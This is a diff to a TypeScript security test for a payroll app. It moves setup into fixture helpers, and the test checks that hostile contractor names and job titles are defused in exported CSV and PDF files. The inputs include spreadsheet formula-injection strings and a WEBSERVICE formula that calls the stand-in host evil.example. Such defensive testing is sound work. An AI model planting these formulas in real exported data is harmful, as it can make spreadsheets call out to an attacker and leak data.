@@ -4,6 +4,7 @@
 // on the characters of a name, and an upload's name never escapes its header or its folder.
 import { PDFParse } from 'pdf-parse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { contractorWithContract, saveTimesheet, submitAndApprove } from './fixtures.ts';
 import { files, startServer, type Client, type TestServer } from './harness.ts';
 
 /** Names as a hostile registrant would type them (all within the name fields' rules). */
@@ -116,27 +117,12 @@ describe('attack: hostile names in what the server exports', () => {
   });
 
   it('payroll CSV and PDFs: a hostile contractor and job title are defused in the CSV and render in the PDFs', async () => {
-    const contractor = await s.as('candidate', { firstName: '=1+2', lastName: 'Ősz-Ürögi 🚀 \u202eevil' });
-    const employer = await s.createUser({ role: 'employer', firstName: '@Client', lastName: '+Kft;=1+1;y' });
-    const [c] = await s
-      .db('contracts')
-      .insert({
-        contractor_id: contractor.user.id,
-        employer_id: employer.id,
-        day_rate: 45_000,
-        fee_percentage: 500,
-        job_title: '=WEBSERVICE("http://evil.example") \u0007 ű',
-        start_date: '2026-01-01',
-      })
-      .returning('id');
-    const saved = await contractor.client.put('/api/candidate/timesheets', {
-      contractId: c!.id,
-      month: '2026-06',
-      days: { '2026-06-01': 1 },
+    const { contractor, contractId } = await contractorWithContract(s, '=WEBSERVICE("http://evil.example") \u0007 ű', {
+      contractor: { firstName: '=1+2', lastName: 'Ősz-Ürögi 🚀 \u202eevil' },
+      employer: { firstName: '@Client', lastName: '+Kft;=1+1;y' },
     });
-    const id = saved.body.data.timesheet.id as number;
-    await contractor.client.post(`/api/candidate/timesheets/${id}/submit`);
-    const approved = await admin.post(`/api/admin/timesheets/${id}/approve`, {});
+    const id = await saveTimesheet(contractor.client, contractId, '2026-06');
+    const approved = await submitAndApprove(contractor.client, admin, id);
     expect(approved.status).toBe(200);
     const { invoiceId, payslipId } = approved.body.data.timesheet as { invoiceId: number; payslipId: number };
 
